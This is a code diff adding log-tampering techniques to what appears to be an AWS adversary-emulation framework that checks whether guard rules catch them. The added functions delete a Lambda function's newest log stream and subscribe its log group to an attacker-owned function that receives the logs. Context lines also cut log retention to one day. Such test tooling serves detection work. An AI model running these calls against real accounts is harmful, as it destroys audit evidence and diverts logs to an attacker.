@@ -43,6 +43,25 @@ def _add_index(a: Intruder) -> None:
     )
 
 
+def _delete_stream(a: Intruder) -> None:
+    """The function writes its streams all the time; the newest is there."""
+    streams = a.logs.describe_log_streams(logGroupName=_log_group(a))["logStreams"]
+    a.logs.delete_log_stream(logGroupName=_log_group(a), logStreamName=streams[-1]["logStreamName"])
+
+
+def _send_log_away(a: Intruder) -> None:
+    group = _log_group(a)
+    a.functions.add_permission(
+        FunctionName=a.own_function,
+        StatementId=group.rpartition("/")[2],
+        Action="lambda:InvokeFunction",
+        Principal="logs.amazonaws.com",
+    )
+    a.logs.put_subscription_filter(
+        logGroupName=group, filterName="theirs", filterPattern="", destinationArn=a.own_function
+    )
+
+
 def _masking() -> str:
     identifiers = ["arn:aws:dataprotection::aws:data-identifier/EmailAddress"]
     operations: dict[str, Any] = {
@@ -173,6 +192,24 @@ TECHNIQUES = (
         documents=("guard-logs.groups",),
         how="The other half has it kept as long as was deployed",
         attack=lambda a: a.logs.put_retention_policy(logGroupName=_log_group(a), retentionInDays=1),
+    ),
+    Technique(
+        id="log-cut-out",
+        words="Delete a stream of the function's own log",
+        rights=("logs:DeleteLogStream",),
+        against=EITHER,
+        ends="told",
+        how="What was in it is lost",
+        attack=_delete_stream,
+    ),
+    Technique(
+        id="log-sent-away",
+        words="Have the function's own log sent to a function of the attacker",
+        rights=("logs:PutSubscriptionFilter", "lambda:AddPermission"),
+        against=EITHER,
+        ends="told",
+        how="Only people know who collects the logs of the account; nothing secret is in it",
+        attack=_send_log_away,
     ),
     Technique(
         id="log-deleted",
